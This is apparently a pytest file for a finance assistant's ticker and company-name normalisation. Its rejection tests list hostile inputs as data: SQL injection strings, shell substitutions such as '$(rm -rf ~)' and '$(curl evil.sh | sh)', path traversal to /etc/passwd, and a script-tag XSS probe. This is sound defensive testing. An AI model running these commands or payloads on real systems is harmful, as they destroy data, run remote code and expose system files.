"""Ticker and company-name normalisation: good input normalised, bad input a clear error."""

from __future__ import annotations

import pytest

from assistant_core.market.symbols import InvalidInput, normalise_company_name, normalise_ticker


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("AAPL", "AAPL"),
        (" aapl ", "AAPL"),
        ("$AAPL", "AAPL"),
        ("$ msft\t", "MSFT"),
        ("brk-b", "BRK-B"),
        ("bmw.de", "BMW.DE"),
        ("005930.KS", "005930.KS"),
        ("^gspc", "^GSPC"),
        ("EURUSD=X", "EURUSD=X"),
        ("ＡＡＰＬ", "AAPL"),  # full-width letters, NFKC
    ],
)
def test_tickers_are_normalised(raw: str, expected: str) -> None:
    assert normalise_ticker(raw) == expected


@pytest.mark.parametrize(
    ("raw", "fragment"),
    [
        ("", "ticker is empty"),
        ("   ", "ticker is empty"),
        ("A" * 500, "500 characters"),
        ("AAPL; DROP TABLE entries;--", "at most 20"),
        ("'; DROP TABLE x", "not a valid ticker"),
        ("$(rm -rf ~)", "not a valid ticker"),
        ("`reboot`", "not a valid ticker"),
        ("../../etc/passwd", "not a valid ticker"),
        ("애플", "looks like a company name"),
        ("Apple Inc", "looks like a company name"),
        ("AAPL\x1b[31m", "not a valid ticker"),
        ("A.B.C", "not a valid ticker"),
        (None, "must be a string"),
        (123, "must be a string"),
    ],
)
def test_bad_tickers_are_rejected_with_a_clear_message(raw: object, fragment: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        normalise_ticker(raw)
    message = str(caught.value)
    assert fragment in message
    assert "\n" not in message and "\x1b" not in message
    assert len(message) < 200


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Apple", "Apple"),
        ("  Apple   Inc. ", "Apple Inc."),
        ("삼성전자", "삼성전자"),
        ("AT&T", "AT&T"),
        ("McDonald's", "McDonald's"),
        ("Novo Nordisk A/S", "Novo Nordisk A/S"),
        ("L'Oréal", "L'Oréal"),
        ("$AAPL", "AAPL"),
    ],
)
def test_company_names_in_any_script_are_accepted(raw: str, expected: str) -> None:
    assert normalise_company_name(raw) == expected


@pytest.mark.parametrize(
    ("raw", "fragment"),
    [
        ("", "empty"),
        ("x" * 500, "500 characters"),
        ("'; DROP TABLE companies; --", "does not look like a company name"),
        ("$(curl evil.sh | sh)", "does not look like a company name"),
        ("../../etc/passwd", "does not look like a company name"),
        ("<script>alert(1)</script>", "does not look like a company name"),
        ("Apple\x00", "does not look like a company name"),
        ("...", "does not look like a company name"),
        ("---", "no letters or digits"),
        (["Apple"], "must be a string"),
    ],
)
def test_absurd_company_names_are_rejected(raw: object, fragment: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        normalise_company_name(raw)
    assert fragment in str(caught.value)
